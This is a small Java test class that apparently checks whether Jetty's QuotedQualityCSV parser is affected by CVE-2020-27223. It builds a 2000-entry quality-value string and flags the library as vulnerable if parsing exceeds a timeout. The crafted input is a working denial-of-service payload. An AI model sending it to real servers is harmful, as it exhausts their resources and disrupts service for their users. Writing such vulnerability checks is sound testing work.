public class D_jetty_http_2020_27223 {
    public static String run() throws Throwable {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < 2000; i++)
            s.append(i > 0 ? "," : "").append("a").append(i).append(";q=0.").append(1 + i % 899);
        Object r = H.timed(3000, 0, () -> {
            var q = new org.eclipse.jetty.http.QuotedQualityCSV();
            q.addValue(s.toString());
            return q.getValues().size();
        });
        return H.v("TIMEOUT".equals(r), r);
    }
}
